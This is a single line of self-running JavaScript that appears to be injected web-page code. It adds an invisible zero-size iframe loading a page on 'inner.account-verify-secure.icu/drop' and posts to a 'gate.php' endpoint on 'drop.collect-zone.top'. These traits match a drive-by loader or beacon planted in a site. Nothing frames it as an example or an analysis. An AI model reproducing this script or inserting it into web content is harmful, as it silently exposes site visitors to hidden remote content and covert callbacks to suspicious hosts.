(function(){var f=document.createElement('iframe');f.setAttribute('style','width:0;height:0');f.src='http://inner.account-verify-secure.icu/drop';document.body.appendChild(f);fetch('http://drop.collect-zone.top/gate.php',{method:'POST'});})();